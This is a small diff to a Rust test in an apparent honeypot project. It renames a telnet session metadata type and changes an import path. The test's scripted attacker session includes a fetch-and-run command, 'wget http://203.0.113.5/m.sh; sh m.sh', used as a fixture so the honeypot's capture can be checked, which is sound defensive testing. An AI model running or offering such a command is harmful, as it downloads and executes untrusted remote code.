@@ -109,7 +109,7 @@ fn wire_equals_bulk_for_phil_probe() {
 
 #[test]
 fn telnet_wire_equals_bulk() {
-    use honeylab::honeypot::wire_telnet::{run_telnet_session, TelnetSessionMeta};
+    use honeylab::honeypot::wire::run_telnet_session;
     use honeylab::telwire::TelnetScript;
     let store = |uri: &str| -> Option<Vec<u8>> {
         uri.contains("203.0.113.5")
@@ -123,7 +123,7 @@ fn telnet_wire_equals_bulk() {
         "cd /tmp".to_string(),
         "wget http://203.0.113.5/m.sh; sh m.sh".to_string(),
     ];
-    let tmeta = TelnetSessionMeta {
+    let tmeta = WireSessionMeta {
         honeypot_id: 3,
         honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
         client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
